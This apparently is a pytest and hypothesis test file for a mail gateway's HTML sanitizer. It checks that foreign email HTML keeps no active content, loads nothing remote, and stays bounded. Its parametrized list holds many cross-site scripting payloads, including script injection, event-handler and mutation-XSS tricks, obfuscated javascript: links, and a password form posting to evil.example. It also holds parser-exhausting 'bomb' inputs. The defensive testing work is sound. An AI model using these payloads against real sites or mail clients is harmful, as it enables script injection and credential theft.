"""Foreign HTML (threats T35-T39): nothing active, nothing remote, nothing lost, never slow."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.mail.html_text import to_text
from gateway.mail.sanitize import LONGEST, sanitize
from gateway.mail.tidy import ATTRIBUTES_OF, DEPTH, TAGS


class Judge(HTMLParser):
    """Fails on whatever the allow-list does not name."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        allowed = ATTRIBUTES_OF.get(tag, frozenset()) | {"dir"} | ({"rel"} if tag == "a" else set())
        for name, value in attrs:
            assert name in allowed
            if name == "href":
                assert str(value).strip().lower().startswith(("http:", "https:", "mailto:"))
            if name == "src":
                assert str(value).startswith("cid:")

    def handle_comment(self, data: str) -> None:
        pytest.fail("a comment was left")

    def handle_decl(self, decl: str) -> None:
        pytest.fail("a declaration was left")


def judged(html: str) -> str:
    clean = str(sanitize(html))
    Judge().feed(clean)
    assert str(sanitize(clean)) == clean
    return clean


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<form action=http://evil.example><input name=password><button formaction=x>go</button></form>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=x></object><embed src=x><applet code=x></applet>",
        "<link rel=stylesheet href=http://evil.example><meta http-equiv=refresh content=0><base href=//evil>",
        "<style>@import url(http://evil.example)</style><p style='position:fixed' class=a id=b name=c>x</p>",
        "<a href='javascript:alert(1)'>x</a><a href='jAvAsCrIpT:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a><a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='\x01javascript:alert(1)'>x</a><a href='data:text/html,x'>x</a><a href='//x.example'>x</a>",
        "<a href='cid:x'>x</a><a href='/relative'>x</a><a href='http://[bad'>x</a>",
        "<img srcset='http://evil.example/x 2x'><video poster=http://evil.example/x></video>",
        "<body background=http://evil.example/x><table background=http://evil.example/y><td>x</table>",
        "<img src=data:image/svg+xml;base64,AAAA><img src='CID:ok' style=x>",
        "<!--[if mso]><p>x<![endif]--><?xml version='1'?><!DOCTYPE x><![CDATA[x]]>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<p/onclick=alert(1)/title=x>x<b =x onclick=alert(1)>",
        "<label for=x>x</label><details open ontoggle=alert(1)><summary>x</summary></details>",
        "<template><script>x</script></template><xmp><script>x</script></xmp><plaintext>x",
        "<textarea><script>x</script></textarea><title><img src=x onerror=1></title>",
    ],
)
def test_nothing_active_is_left(payload: str) -> None:
    for html in (payload, f"<p>{payload}</p>", payload[:-1], payload + payload):
        judged(html)


def test_writing_keeps_its_shape() -> None:
    html = "<div dir=rtl><p>One <b>two</b> &amp; &lt;three&gt;<br>four</p><ol start=3><li>x</ol></div>"
    assert judged(html) == (
        '<div dir="rtl"><p>One <b>two</b> &amp; &lt;three&gt;<br>four</p><ol start="3"><li>x</li></ol></div>'
    )


def test_links_say_nothing_about_where_they_were_found() -> None:
    clean = judged('<a href="https://example.org/?a=1&amp;b=2" target=_blank>x</a>')
    assert clean == '<a href="https://example.org/?a=1&amp;b=2" rel="noopener noreferrer nofollow ugc">x</a>'


def test_remote_pictures_become_their_words_and_own_ones_stay() -> None:
    html = '<img alt="A &lt;b&gt;" src="http://t.example/pixel"><img width=5 src="cid:a@b" alt=L>'
    clean = judged(html)
    assert clean.startswith('A &lt;b&gt;<img src="cid:a@b" ')
    assert 'alt="L"' in clean
    assert "t.example" not in clean


@pytest.mark.parametrize(
    "bomb",
    [
        "<div>" * 30_000,
        "".join(f"<p><b title={number}>x" for number in range(20_000)),
        "<a " + " ".join(f"x{number}" for number in range(100_000)) + ">",
        "<a " + " ".join(f'x{number}=">"' for number in range(50_000)) + ">",
        "<!--" * 100_000,
        "<table><tr>x" * 20_000,
        "<a>" * 100_000,
        "<" * 300_000,
        "<script>" * 50_000,
        "<ul><li>" * 50_000,
        "<b><i>" * 300 + "</b></i>" * 30_000,
        "<a b='" * 50_000,
        "x" * (LONGEST + 5),
    ],
    ids=lambda bomb: bomb[:12],
)
def test_bombs_stay_small(bomb: str) -> None:
    clean = sanitize(bomb)
    assert len(clean) <= LONGEST
    assert str(sanitize(clean)) == str(clean)
    to_text(str(clean))


def test_depth_is_bounded_and_words_are_not_lost() -> None:
    clean = judged("<div>" * 5000 + "word")
    assert clean.count("<div>") == DEPTH
    assert "word" in clean


@settings(deadline=None, max_examples=200)
@given(
    st.lists(
        st.sampled_from(
            [
                *("<p>", "</p>", "<b>", "</b>", "<a href='http://x'>", "</a>", "<table>", "<tr>", "<td>"),
                *("</table>", "<ul>", "<li>", "</ul>", "<pre>\n", "</pre>", "<blockquote>", "text", "&amp;"),
                *("&lt;b&gt;", "<", "<!--", "-->", "<svg>", "</svg>", "<style>", "</style>", "'", '"', ">"),
                "<img src=cid:x alt='\"<>'>",
            ]
        ),
        max_size=20,
    )
)
def test_any_soup_is_cleaned_once_and_for_all(soup: list[str]) -> None:
    to_text(judged("".join(soup)))


@settings(deadline=None, max_examples=100)
@given(st.text(alphabet="<>/ab='\" !-&;p\n", max_size=60))
def test_any_text_is_cleaned_once_and_for_all(text: str) -> None:
    judged(text)


def test_text_made_of_html_can_be_read() -> None:
    html = """<p>Hello&nbsp;<b>you</b>,<br>see <a href="https://example.org/x">this</a>
        or <a href="https://example.org">https://example.org</a>.</p>
        <ul><li>one<li>two<ol><li>deep</ol></ul><pre>a  b
c</pre><table><tr><td>x<td>y</table><hr><div>On 3 March 2025 Jo wrote:</div>
        <blockquote><p>quoted<p>more<blockquote>older</blockquote></blockquote>"""
    assert to_text(str(sanitize(html))).split("\n") == [
        "Hello you,",
        "see this <https://example.org/x> or https://example.org.",
        "",
        "* one",
        "* two",
        "  1. deep",
        "",
        "a  b",
        "c",
        "",
        "x y",
        "",
        "---",
        "On 3 March 2025 Jo wrote:",
        "",
        "> quoted",
        ">",
        "> more",
        ">",
        "> > older",
    ]
